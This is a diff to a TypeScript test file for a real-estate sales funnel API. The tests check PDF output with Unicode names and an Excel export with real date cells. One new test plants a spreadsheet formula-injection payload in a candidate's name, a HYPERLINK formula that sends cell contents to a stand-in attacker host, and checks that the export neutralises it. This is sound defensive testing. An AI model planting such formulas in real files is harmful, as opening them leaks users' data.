@@ -1,11 +1,12 @@
+// Over 400 lines: the funnel routes' suites (access, rows, menus, filters, sort, PDF, export) share one sale world.
 import { type ApplicationRow, type ApplicationsPage, EXPIRED_RESERVATION_TEXT, MESSAGES, XLSX_FORMATS } from '@promovente/shared';
 import { eq } from 'drizzle-orm';
-import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { Db } from '../../db/client.js';
-import { applications, buildings, candidacies, files, lots, promotions, tasks } from '../../db/schema/index.js';
+import { applications, buildings, candidacies, candidates, files, lots, promotions, tasks } from '../../db/schema/index.js';
 import { createTestContext, type TestContext } from '../../test/harness.js';
-import { pdfText } from '../../test/pdf-text.js';
+import { pdfFonts, pdfText, UNICODE_NAME } from '../../test/pdf-text.js';
+import { isLiveFormula, loadWorkbook, readXlsx } from '../../test/xlsx-reader.js';
 import { addApplication, candidateAccount, createCandidacyRow, salesDesk } from '../candidacies/candidacies.fixtures.js';
 
 let ctx: TestContext;
@@ -448,8 +449,10 @@ describe('GET /applications: sort and pages (docs/product/funnel.md#sort-and-fil
 });
 
 describe('GET /applications/:publicId/pdf (docs/product/calls.md#direct-application-calls)', () => {
-  it('answers a signed URL of the sales file, a real PDF naming the lot and the candidates', async () => {
+  it('answers a signed URL of the sales file, a real PDF naming the lot and the candidates in any alphabet', async () => {
     const f = await funnel();
+    const [first, last] = UNICODE_NAME.split(' ');
+    await f.db.update(candidates).set({ firstName: first, lastName: last }).where(eq(candidates.id, f.alice.candidate.id));
     await f.db
       .update(candidacies)
       .set({ mortgageAmount: 600_000, mortgageBankName: 'Banque Cantonale Vaudoise', secondPillarAmount: 80_000 })
@@ -481,7 +484,8 @@ describe('GET /applications/:publicId/pdf (docs/product/calls.md#direct-applicat
     expect(text).toContain('Lot B-002');
     expect(text).toContain('Les Hauts de Rolle');
     expect(text).toContain('Bruno Zahnd');
-    expect(text).toContain('Alice Favre');
+    expect(text).toContain(UNICODE_NAME);
+    for (const font of pdfFonts(pdf)) expect(font, font.name).toMatchObject({ embedded: true, unicode: true });
     expect(text).toContain("780'000 CHF");
     expect(text).toContain("830'000 CHF");
     expect(text).toContain('P-12');
@@ -525,19 +529,59 @@ describe("GET /applications/download: 'Exporter' (docs/product/funnel.md#screens
     const file = await ctx.app.inject({ method: 'GET', url });
     expect(file.statusCode).toBe(200);
     expect(file.headers['content-type']).toContain('spreadsheetml');
-    const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
+    const workbook = await loadWorkbook(file.rawPayload);
     const sheet = workbook.getWorksheet('Tunnel de vente');
     expect(sheet?.rowCount).toBe(1 + listed.total);
     expect(sheet?.getRow(1).values).toEqual(expect.arrayContaining(['Client', 'Statut', 'Lot', 'FR', 'SIGN PdV', 'Tâches ouvertes']));
     expect(sheet?.getRow(2).getCell(7).value).toBe('B-003');
     expect(sheet?.getRow(2).getCell(3).value).toBe('Chloé Monnier');
-    expect(sheet?.getRow(2).getCell(14).value).toBe('✓ Validé le 01/02/2026 10:00');
+    expect(sheet?.getRow(2).getCell(14).value).toEqual(new Date('2026-02-01T10:00:00Z'));
     expect(sheet?.getRow(3).getCell(4).value).toBe('Alice Favre');
     expect(sheet?.getRow(2).getCell(11).numFmt).toBe(XLSX_FORMATS.amount);
     expect(typeof sheet?.getRow(2).getCell(8).value).toBe('number');
     // 'General' is Excel's default format: the file leaves it unwritten.
     expect(sheet?.getRow(2).getCell(8).numFmt ?? XLSX_FORMATS.decimal).toBe('General');
+  });
+
+  it("writes milestone dates as real dates (Swiss time, shown as on screen), 'Priorité' as a number and every text inert, read back by openpyxl and Gnumeric", async () => {
+    const f = await funnel();
+    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")';
+    await f.db.update(candidates).set({ firstName: hostile }).where(eq(candidates.id, f.david.candidate.id));
+    await f.db.update(applications).set({ priority: 9 }).where(eq(applications.id, f.optioned.id));
+    await f.db
+      .update(applications)
+      .set({ statusSignpdv: '@SUM(1) 05/03/2026', statusSign: 'Prévue le 14/01/2027' })
+      .where(eq(applications.id, f.promise.id));
+    const headers = await f.token(f.broker);
+    const { url } = (await get('/api/applications/download?orderBy=price&order=asc', headers)).json().data;
+    const read = readXlsx((await ctx.app.inject({ method: 'GET', url })).rawPayload);
+
+    expect(read.formulas).toEqual([]);
+    expect(read.csv.flat().filter(isLiveFormula)).toEqual([]);
+    const column = (label: string) => read.cells[0].findIndex((cell) => cell.value === label);
+    const byLot = (reference: string) => read.cells.findIndex((row) => row[column('Lot')].value === reference);
+    const [priority, client, fr, ac, signpdv, sign] = ['Priorité', 'Client', 'FR', 'AC', 'SIGN PdV', 'SIGN'].map(column);
+
+    // 'Priorité': numbers 1, 2, 3, and 9 shown 'NP'.
+    expect(read.cells[byLot('B-001')][priority]).toMatchObject({ type: 'n', value: 9 });
+    expect(read.csv[byLot('B-001')][priority]).toBe('NP');
+    expect(read.cells[byLot('B-002')][priority]).toMatchObject({ type: 'n', value: 1 });
+    expect(read.csv[byLot('B-002')][priority]).toBe('1');
+
+    // Milestones: date cells in Swiss wall time, their words kept by the format.
+    expect(read.cells[byLot('B-002')][fr]).toMatchObject({ isDate: true, value: '2026-03-05T10:00:00' });
+    expect(read.csv[byLot('B-002')][fr]).toBe('✓ Validé le 05/03/2026 10:00');
+    expect(read.cells[byLot('B-002')][ac]).toMatchObject({ isDate: true, value: '2026-03-10T11:00:00' });
+    expect(read.csv[byLot('B-002')][ac]).toBe('✓ Reçu le 10/03/2026 11:00');
+    expect(read.cells[byLot('B-003')][sign]).toMatchObject({ isDate: true, value: '2027-01-14T00:00:00' });
+    expect(read.csv[byLot('B-003')][sign]).toBe('Prévue le 14/01/2027');
+    // Words a spreadsheet would run stay inert, once saved as CSV too.
+    expect(read.cells[byLot('B-003')][signpdv]).toMatchObject({ isDate: true });
+    expect(read.csv[byLot('B-003')][signpdv]).toBe("'@SUM(1) 05/03/2026");
+
+    // A hostile name: text with its apostrophe, in the file and in the CSV.
+    expect(read.cells[byLot('B-004')][client]).toMatchObject({ type: 's', value: `'${hostile} Aubert` });
+    expect(read.csv[byLot('B-004')][client]).toBe(`'${hostile} Aubert`);
   });
 
   it('is for brokers only, in their promotions', async () => {
